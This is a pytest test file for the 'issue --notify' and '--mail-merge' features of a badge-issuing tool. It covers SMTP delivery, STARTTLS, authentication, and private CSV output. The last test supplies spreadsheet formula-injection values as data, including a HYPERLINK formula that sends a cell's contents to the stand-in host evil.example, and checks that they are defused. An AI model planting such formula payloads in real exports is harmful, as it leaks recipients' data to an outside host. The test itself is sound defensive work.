"""`issue --notify` against a real SMTP server on 127.0.0.1 (aiosmtpd), and `--mail-merge`."""

from __future__ import annotations

import contextlib
import csv
import datetime
import email
import email.policy
import ipaddress
import socket
import ssl

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from badgepress.cli import main
from badgepress.issuing.notify import spreadsheet_cell
from badgepress.openbadges.baking import unbake
from tests.support import build_site

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


class Inbox:
    """aiosmtpd handler keeping every message it receives."""

    def __init__(self):
        self.messages = []

    async def handle_DATA(self, server, session, envelope):
        message = email.message_from_bytes(envelope.content, policy=email.policy.default)
        self.messages.append((envelope.rcpt_tos, message))
        return "250 OK"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextlib.contextmanager
def smtp_server(**options):
    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=free_port(), **options)
    controller.start()
    try:
        yield inbox, controller.port
    finally:
        controller.stop()


def self_signed(tmp_path):
    """A certificate for 127.0.0.1 and the context a STARTTLS server serves it with."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert_file, key_file)
    return cert_file, context


def smtp_env(monkeypatch, port, **extra):
    for name in ("HOST", "PORT", "USER", "PASSWORD", "FROM", "STARTTLS", "SSL", "CA_FILE"):
        monkeypatch.delenv(f"BADGEPRESS_SMTP_{name}", raising=False)
    monkeypatch.setenv("BADGEPRESS_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("BADGEPRESS_SMTP_PORT", str(port))
    monkeypatch.setenv("BADGEPRESS_SMTP_FROM", "badges@example.org")
    for name, value in extra.items():
        monkeypatch.setenv(f"BADGEPRESS_SMTP_{name}", value)


def issue_one(site, *options: str) -> int:
    """`badgepress issue affective-language --email t@example.net OPTIONS --source SITE`."""
    return main(
        ["issue", "affective-language", "--email", "t@example.net", *options, "--source", str(site)]
    )


def new_ids(site, before):
    return sorted(p.stem for p in set((site / "assertions").rglob("*.yaml")) - before)


def test_notify_emails_the_badge_link_and_the_baked_png(site, monkeypatch, capsys):
    with smtp_server() as (inbox, port):
        smtp_env(monkeypatch, port)
        before = set((site / "assertions").rglob("*.yaml"))
        status = main(
            [
                "issue",
                "restorative-circles",
                "--email",
                "Ana.Ruiz@Example.net",
                "--name",
                "Ana Ruiz",
                "--notify",
                "--source",
                str(site),
            ]
        )
        assert status == 0, capsys.readouterr().err
    [assertion_id] = new_ids(site, before)
    [(recipients, message)] = inbox.messages
    assert recipients == ["Ana.Ruiz@Example.net"]
    assert message["To"] == "Ana Ruiz <Ana.Ruiz@Example.net>"
    assert message["From"] == "Example Education Association <badges@example.org>"
    assert "Restorative Circles" in message["Subject"]
    assert message["Date"] and message["Message-ID"].endswith("@example.org>")
    body = message.get_body(("plain",)).get_content()
    assert f"https://badges.example.org/assertions/{assertion_id}/" in body
    [attachment] = list(message.iter_attachments())
    assert attachment.get_content_type() == "image/png"
    png = attachment.get_content()
    assert png.startswith(PNG_SIGNATURE)
    assert unbake(png) == f"https://badges.example.org/assertions/{assertion_id}.json"
    assert "emailed 1 earner" in capsys.readouterr().out


def test_starttls_and_login_are_used_when_the_server_offers_them(
    site, monkeypatch, tmp_path, capsys
):
    cert_file, context = self_signed(tmp_path)
    logins = []

    def authenticate(server, session, envelope, mechanism, auth_data):
        logins.append((mechanism, auth_data.login, auth_data.password, session.ssl is not None))
        return AuthResult(success=auth_data.password == b"s3cret")

    with smtp_server(
        tls_context=context,
        require_starttls=True,
        authenticator=authenticate,
        auth_require_tls=True,
    ) as (inbox, port):
        smtp_env(
            monkeypatch,
            port,
            USER="issuer",
            PASSWORD="s3cret",
            CA_FILE=str(cert_file),
            STARTTLS="required",
        )
        assert issue_one(site, "--notify") == 0
    assert len(inbox.messages) == 1
    assert logins and logins[0][1:] == (b"issuer", b"s3cret", True)


def test_starttls_required_but_not_offered_refuses_before_writing(site, monkeypatch, capsys):
    with smtp_server() as (inbox, port):
        smtp_env(monkeypatch, port, STARTTLS="required")
        before = set((site / "assertions").rglob("*.yaml"))
        assert issue_one(site, "--notify") == 1
    assert "does not offer STARTTLS" in capsys.readouterr().err
    assert new_ids(site, before) == [] and inbox.messages == []


def test_notify_without_smtp_settings_is_a_clear_error_and_writes_nothing(
    site, monkeypatch, capsys
):
    monkeypatch.delenv("BADGEPRESS_SMTP_HOST", raising=False)
    before = set((site / "assertions").rglob("*.yaml"))
    assert issue_one(site, "--notify") == 1
    err = capsys.readouterr().err
    assert "set BADGEPRESS_SMTP_HOST" in err and "--mail-merge" in err
    assert new_ids(site, before) == []


def test_an_unreachable_server_refuses_before_writing(site, monkeypatch, capsys):
    smtp_env(monkeypatch, free_port())
    before = set((site / "assertions").rglob("*.yaml"))
    assert issue_one(site, "--notify") == 1
    assert "SMTP 127.0.0.1:" in capsys.readouterr().err
    assert new_ids(site, before) == []


def test_mail_merge_writes_a_private_file_outside_the_repository(site, tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "email,name,credential\na@example.net,Ann,affective-language\nb@example.net,,restorative-circles\n"
    )
    merge = tmp_path / "merge.csv"
    before = set((site / "assertions").rglob("*.yaml"))
    assert (
        main(["issue", "--csv", str(roster), "--mail-merge", str(merge), "--source", str(site)])
        == 0
    )
    rows = list(csv.DictReader(merge.open()))
    assert [r["email"] for r in rows] == ["a@example.net", "b@example.net"]
    assert rows[0]["name"] == "Ann" and "Affective Language" in rows[0]["credential"]
    ids = set(new_ids(site, before))
    assert {r["badge_url"].rstrip("/").rsplit("/", 1)[1] for r in rows} == ids
    assert merge.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("inside", ["merge.csv", "assertions/merge.csv"])
def test_mail_merge_inside_the_repository_is_refused(site, capsys, inside):
    before = set((site / "assertions").rglob("*.yaml"))
    target = site / inside
    assert issue_one(site, "--mail-merge", str(target)) == 1
    assert "inside the site repository" in capsys.readouterr().err
    assert not target.exists() and new_ids(site, before) == []


def test_no_email_reaches_the_repository_or_the_site(site, tmp_path, capsys):
    emails = [f"Private.Person{i}@Example.net" for i in range(5)]
    roster = tmp_path / "roster.csv"
    roster.write_text("email,credential\n" + "".join(f"{e},affective-language\n" for e in emails))
    merge = tmp_path / "merge.csv"
    assert (
        main(["issue", "--csv", str(roster), "--mail-merge", str(merge), "--source", str(site)])
        == 0
    )
    build_site(site, tmp_path / "out")
    for folder in (site, tmp_path / "out"):
        for path in folder.rglob("*"):
            if path.is_file() and ".git" not in path.parts:
                text = path.read_bytes().decode("utf-8", "replace").lower()
                assert not any(e.lower() in text for e in emails), path
    assert all(e in merge.read_text() for e in emails)


def test_mail_merge_cells_that_a_spreadsheet_would_run_are_defused(site, tmp_path, capsys):
    names = ['=HYPERLINK("https://evil.example/?"&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)"]
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "credential"])
        for number, name in enumerate(names):
            writer.writerow([f"p{number}@example.net", name, "affective-language"])
    merge = tmp_path / "merge.csv"
    assert (
        main(["issue", "--csv", str(roster), "--mail-merge", str(merge), "--source", str(site)])
        == 0
    )
    rows = list(csv.DictReader(merge.open(newline="")))
    assert sorted(r["name"] for r in rows) == sorted("'" + name for name in names)
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    assert all(line.startswith('"') for line in merge.read_text().splitlines())
    # Rosters strip names; a tab or carriage return that starts a cell is defused too.
    assert [spreadsheet_cell(text) for text in ("\tx", "\rx", "Ann")] == ["'\tx", "'\rx", "Ann"]
